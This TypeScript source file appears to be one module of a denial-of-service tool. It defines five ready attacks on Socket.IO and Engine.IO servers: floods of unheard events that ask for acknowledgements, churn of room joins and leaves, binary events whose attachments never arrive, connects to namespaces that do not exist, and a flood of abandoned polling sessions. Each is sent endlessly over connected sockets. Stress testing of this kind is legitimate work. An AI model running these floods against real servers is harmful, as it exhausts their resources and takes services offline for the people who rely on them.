import type { Assault } from './assault.ts'
import type { Attack } from './attack.ts'
import { clientFrame, repeated } from './client-frame.ts'
import { repeatFrames } from './repeat-frames.ts'
import { flood } from './requests.ts'
import { get } from './wire.ts'

const path = '/socket.io/?EIO=4&transport='
/** Engine.IO's message (4), and in it Socket.IO's connect (0), event (2) and binary event (5). */
const connect = clientFrame('40')
const event = (...args: readonly unknown[]) => clientFrame(`42${JSON.stringify(args)}`)

/** The same packets for ever, on a few sockets that are connected. */
const repeatPackets = (assault: Assault, packets: Uint8Array) =>
  repeatFrames(assault, packets, { path: `${path}websocket`, first: connect })

export const socketIo: readonly Attack[] = [
  {
    name: 'packet-flood',
    what: 'events of Socket.IO that no listener takes, each with an acknowledgement asked for',
    run: (assault) =>
      repeatPackets(
        assault,
        Buffer.concat(Array.from({ length: 500 }, (_, index) => clientFrame(`42${index}["nothing",{}]`))),
      ),
  },
  {
    name: 'room-churn',
    what: 'joins rooms of Socket.IO, each another, and leaves them',
    run: (assault) =>
      repeatPackets(
        assault,
        Buffer.concat(
          Array.from({ length: 500 }, (_, index) =>
            event(index % 2 === 0 ? 'join' : 'leave', `room:invented-${index >> 1}`),
          ),
        ),
      ),
  },
  {
    name: 'missing-attachments',
    what: 'binary events of Socket.IO whose attachments never come',
    run: (assault) => repeatPackets(assault, repeated(clientFrame('451-["said",{"_placeholder":true,"num":0}]'), 100)),
  },
  {
    name: 'namespace-churn',
    what: 'connects to namespaces of Socket.IO that nobody has made',
    run: (assault) =>
      repeatPackets(
        assault,
        Buffer.concat(Array.from({ length: 500 }, (_, index) => clientFrame(`40/invented-${index},`))),
      ),
  },
  {
    name: 'engine-churn',
    what: 'sessions of Engine.IO by polling, each left alone at once',
    keepsBytes: 32 << 20,
    run: (assault) => flood(assault, 8, () => get(`${path}polling`)),
  },
]
